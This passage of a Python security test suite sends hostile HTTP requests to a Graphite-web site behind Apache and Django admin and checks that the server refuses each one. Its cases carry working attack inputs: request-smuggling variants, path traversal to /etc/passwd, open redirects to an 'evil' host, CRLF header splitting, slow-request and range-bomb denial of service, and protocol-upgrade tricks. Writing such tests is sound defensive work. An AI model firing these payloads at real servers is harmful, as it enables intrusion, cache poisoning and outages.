    case("admin-object", get("/admin/auth/user/99999999999999999999999999/change/", by="admin"), {302, 400, 404}),
    case("admin-redirect", get(f"/admin//{EVIL}/%2e%2e", by="admin"), REFUSED | {200, 301, 302}, b"Location: //evil"),
    case("admin-shortcut", get("/admin/r/1/1/", by="admin"), REFUSED | {302}, EVIL.encode()),
    case("script-catalogue", get("/admin/jsi18n/?packages=../../etc", by="admin"), {200, 302, 400}, b"root:x:0"),
]


def smuggle(*headers, body):
    return lines("POST /account/login HTTP/1.1", f"Host: {NAME}", FORM, *headers, body=body)


SMUGGLED = lines("GET /version/?smuggled HTTP/1.1", f"Host: {NAME}", "Connection: close")
# Of Apache and of HTTP.
APACHE = [
    *(
        case(f"method-{method.split()[0].lower()}", request(method, "/", body=b"a=b"), REFUSED | LOGIN, b"TRACE / HTTP", b"Allow: GET,")
        for method in ("TRACE", "TRACK", "DEBUG", "PUT", "DELETE", "PATCH", "PROPFIND", "MKCOL", "COPY", "MOVE", "LOCK", "SEARCH", "BREW")
    ),
    case("method-connect", lines(f"CONNECT 10.213.78.20:{TRAP} HTTP/1.1", f"Host: 10.213.78.20:{TRAP}"), REFUSED),
    case("method-pri", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0", REFUSED),
    case("method-space", lines("G ET / HTTP/1.1", f"Host: {NAME}"), REFUSED),
    case("method-lower", lines("get / HTTP/1.1", f"Host: {NAME}", "Connection: close"), REFUSED | LOGIN),
    case("method-long", lines("A" * 5000 + " / HTTP/1.1", f"Host: {NAME}", "Connection: close"), REFUSED | LOGIN),
    case("method-binary", b"\x00\x01\x02\x03 / HTTP/1.1\r\n\r\n", REFUSED),
    case("options-star", lines("OPTIONS * HTTP/1.1", f"Host: {NAME}", "Connection: close"), REFUSED | {200}, b"TRACE"),
    case("http-0.9", b"GET /\r\n", REFUSED | LOGIN, b"nextPage", b"Browser"),
    case("http-1.0", lines("GET /metrics/index.json HTTP/1.0"), REFUSED | LOGIN),
    case("http-7.3", lines("GET / HTTP/7.3", f"Host: {NAME}", "Connection: close"), REFUSED | LOGIN),
    case("http-no-version", lines("GET / FTP/1.1", f"Host: {NAME}"), REFUSED),
    case("target-absolute", lines(f"GET http://10.213.78.20:{TRAP}/ HTTP/1.1", f"Host: {NAME}", "Connection: close"), REFUSED | LOGIN),
    case(
        "target-absolute-evil",
        lines(f"GET https://{EVIL}/account/login HTTP/1.1", f"Host: {NAME}", "Connection: close"),
        REFUSED | {302, 308},
        EVIL.encode(),
    ),
    case("target-file", lines("GET file:///etc/passwd HTTP/1.1", f"Host: {NAME}", "Connection: close"), REFUSED | LOGIN),
    case("target-without-slash", lines(f"GET @{EVIL}/ HTTP/1.1", f"Host: {NAME}", "Connection: close"), REFUSED),
    case("target-fragment", lines("GET /#/../admin HTTP/1.1", f"Host: {NAME}", "Connection: close"), REFUSED | LOGIN),
    case("target-long", get("/" + "a" * 20_000), REFUSED),
    case("header-long", get("/", "X: " + "a" * 20_000), REFUSED),
    case("header-many", get("/", *(f"X-{number}: a" for number in range(500))), REFUSED),
    case("header-fold", lines("GET /account/login HTTP/1.1", f"Host: {NAME}", "X: a", " b: c", "Connection: close"), REFUSED | {200}),
    case("header-space-before-colon", lines("GET / HTTP/1.1", f"Host: {NAME}", "Content-Length : 5"), REFUSED),
    case("header-no-colon", lines("GET / HTTP/1.1", f"Host: {NAME}", "nothing"), REFUSED),
    case("header-null-byte", lines("GET / HTTP/1.1", f"Host: {NAME}", "X: a\0b"), REFUSED),
    case("header-bare-lf", f"GET / HTTP/1.1\nHost: {NAME}\nConnection: close\n\n".encode(), REFUSED | LOGIN),
    case("header-bare-cr", lines("GET / HTTP/1.1", f"Host: {NAME}", "X: a\rY: b"), REFUSED),
    case("smuggle-cl-te", smuggle("Content-Length: 5", "Transfer-Encoding: chunked", body=b"0\r\n\r\n" + SMUGGLED), REFUSED | {200}),
    case("smuggle-te-cl", smuggle("Transfer-Encoding: chunked", "Content-Length: 4", body=b"5c\r\n" + SMUGGLED), REFUSED | {200}),
    case("smuggle-cl-cl", smuggle("Content-Length: 0", f"Content-Length: {len(SMUGGLED)}", body=SMUGGLED), REFUSED),
    case("smuggle-cl-list", smuggle(f"Content-Length: 0, {len(SMUGGLED)}", body=SMUGGLED), REFUSED),
    case("smuggle-cl-plus", smuggle("Content-Length: +0", body=SMUGGLED), REFUSED),
    case("smuggle-cl-negative", smuggle("Content-Length: -1", body=SMUGGLED), REFUSED),
    case("smuggle-cl-hex", smuggle("Content-Length: 0x0", body=SMUGGLED), REFUSED),
    case("smuggle-cl-large", smuggle("Content-Length: 99999999999999999999999", body=SMUGGLED), REFUSED),
    case("smuggle-te-x", smuggle("Transfer-Encoding: xchunked", body=SMUGGLED), REFUSED),
    case("smuggle-te-identity", smuggle("Transfer-Encoding: chunked, identity", body=b"0\r\n\r\n" + SMUGGLED), REFUSED),
    case("smuggle-te-twice", smuggle("Transfer-Encoding: chunked", "Transfer-Encoding: x", body=b"0\r\n\r\n" + SMUGGLED), REFUSED),
    case("smuggle-te-tab", smuggle("Transfer-Encoding:\x0bchunked", body=b"0\r\n\r\n" + SMUGGLED), REFUSED),
    case(
        "smuggle-te-1.0",
        lines("POST /account/login HTTP/1.0", "Transfer-Encoding: chunked", "Connection: keep-alive", body=b"0\r\n\r\n" + SMUGGLED),
        REFUSED | {200},
    ),
    case(
        "smuggle-get-body",
        lines("GET /account/login HTTP/1.1", f"Host: {NAME}", "Connection: close", f"Content-Length: {len(SMUGGLED)}", body=SMUGGLED),
        REFUSED | {200},
    ),
    case("chunk-size", smuggle("Transfer-Encoding: chunked", "Connection: close", body=b"zz\r\na\r\n0\r\n\r\n"), REFUSED),
    case("chunk-size-large", smuggle("Transfer-Encoding: chunked", "Connection: close", body=b"ffffffffffffffffff\r\na\r\n"), REFUSED),
    case("chunk-size-negative", smuggle("Transfer-Encoding: chunked", "Connection: close", body=b"-1\r\na\r\n"), REFUSED),
    case(
        "chunk-extension",
        smuggle("Transfer-Encoding: chunked", "Connection: close", body=b"1;" + b"x" * 9000 + b"\r\na\r\n0\r\n\r\n"),
        REFUSED | {200},
    ),
    case(
        "chunk-sum",
        smuggle(
            "Transfer-Encoding: chunked",
            "Connection: close",
            body=b"100000\r\n" + b"a" * 0x100000 + b"\r\n100000\r\n" + b"a" * 0x100000 + b"\r\n0\r\n\r\n",
        ),
        REFUSED,
    ),
    case(
        "chunk-trailer",
        smuggle(
            "Transfer-Encoding: chunked",
            "Trailer: Authorization",
            "Connection: close",
            body=b"0\r\nAuthorization: Bearer of-the-grafana-of-this-scenario\r\n\r\n",
        ),
        REFUSED | {200},
    ),
    case("body-too-long", request("POST", "/account/login", FORM, body=b"a=" + b"b" * 2_000_000), {0, 413}),
    case("body-compressed", post("/account/login", "Content-Encoding: gzip", body=b"\x1f\x8b" + b"\0" * 100), REFUSED | {200}),
    case("expect", post("/account/login", "Expect: 100-continue", body=b"a=b"), {100, 200}, answers=2),
    case("expect-unknown", post("/account/login", "Expect: nothing", body=b"a=b"), {417}),
    case(
        "range-bomb",
        get("/static/js/dashboard.js", "Range: bytes=" + ",".join(f"{number}-" for number in range(1000))),
        {200, 206, 400, 416},
    ),
    case("range-negative", get("/static/js/dashboard.js", "Range: bytes=-99999999999999999999,0-0,1-1"), {200, 206, 400, 416}),
    case("range-of-an-answer", get("/account/login", "Range: bytes=0-1,0-2,0-3"), {200, 206, 416}),
    case(
        "condition",
        get("/static/js/dashboard.js", "If-Modified-Since: " + "9" * 4000, 'If-None-Match: "' + "a" * 3000 + '"'),
        {200, 304, 400},
    ),
    case(
        "upgrade-h2c",
        lines(
            "GET /metrics/index.json HTTP/1.1",
            f"Host: {NAME}",
            "Connection: Upgrade, HTTP2-Settings, close",
            "Upgrade: h2c",
            "HTTP2-Settings: AAMAAABkAAQAAP__",
        ),
        REFUSED | LOGIN,
    ),
    case("upgrade-websocket", get("/metrics/index.json", "Upgrade: websocket", "Sec-WebSocket-Key: a"), REFUSED | LOGIN),
    case(
        "connection-drops-header",
        lines(
            "GET /metrics/index.json HTTP/1.1",
            f"Host: {NAME}",
            "Connection: close, Host, X-Forwarded-For",
            f"X-Forwarded-For: {GUEST_ADDRESS}",
        ),
        REFUSED | LOGIN,
    ),
    case("proxy-header", get("/account/login", f"Proxy: {TRAP_URL}"), {200}),
    case("slow-header", (b"GET / HTTP/1.1\r\n", b"Host: ", b"a", b"b", b"c"), REFUSED, pause=1.5, timeout=45),
    case(
        "slow-body",
        (smuggle("Content-Length: 100", "Connection: close", body=b"a"), b"b", b"c", b"d"),
        REFUSED | {200},
        pause=1.5,
        timeout=45,
    ),
    case("end-within-body", smuggle("Content-Length: 1000", "Connection: close", body=b"a=b"), REFUSED | {200}, timeout=45),
    case("plain-to-tls", get("/"), {400}, port=443, tls=False),
    # Each virtual host leads this path to graphite-web, also the one that only redirects.
    case(
        "health-post", request("POST", "/graphite-health", "X-Remote-User: hostile", body=b"a=1"), {405}, b"sessionid", port=80, tls=False
    ),
    case("health-post-tls", request("POST", "/graphite-health", "X-Remote-User: hostile", body=b"a=1"), {405}, b"sessionid"),
    case("health-below", get("/graphite-health/../account/login"), {200, 308, 400, 404}, b"sessionid", port=80, tls=False),
    case("tls-to-plain", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 100, REFUSED, port=80, tls=False, timeout=45),
    case("plain-render", get("/render?target=carbon.*&format=json"), {308}, b"carbon.agents", port=80, tls=False),
    case(
        "plain-login",
        post("/account/login", body=form(username="alice", password="the password of alice")),
        {308},
        b"sessionid",
        port=80,
        tls=False,
    ),
    case("plain-redirect-host", get("/account/login", host=EVIL), {308, 400, 404}, f"https://{EVIL}".encode(), port=80, tls=False),
    case("plain-redirect-split", get("/%0d%0aSet-Cookie:%20a=b"), {308, 400}, b"\nSet-Cookie: a=b", port=80, tls=False),
    case("plain-challenge", get("/.well-known/acme-challenge/..%2f..%2f..%2f..%2fetc%2fpasswd"), REFUSED, port=80, tls=False),
    case("plain-challenge-list", get("/.well-known/acme-challenge/"), REFUSED, b"Index of", port=80, tls=False),
    case("server-name-of-another-site", get("/metrics/index.json", host=NAME), REFUSED | LOGIN, server_name=EVIL),
    case("server-name-missing", get("/metrics/index.json", host=NAME), REFUSED | LOGIN, server_name=""),
    case("server-name-unlike-host", get("/account/login", host=EVIL), REFUSED | {302}, EVIL.encode()),
    case("clickjacking", get("/account/login"), {200}),
]

CASES = [*STRANGERS, *USERS, *GRAPHITE, *PATHS, *DJANGO, *APACHE]
